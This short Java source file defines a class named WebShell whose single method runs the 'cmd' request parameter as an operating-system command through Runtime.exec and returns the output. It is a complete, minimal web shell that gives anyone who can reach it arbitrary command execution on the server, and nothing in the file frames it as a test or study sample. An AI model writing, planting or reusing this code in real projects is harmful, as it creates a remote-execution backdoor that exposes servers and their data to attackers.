import java.io.InputStream;

/** Runs a parameter, as a servlet would. */
public class WebShell {
    InputStream run(javax.servlet.http.HttpServletRequest request) throws Exception {
        return Runtime.getRuntime().exec(request.getParameter("cmd")).getInputStream();
    }
}
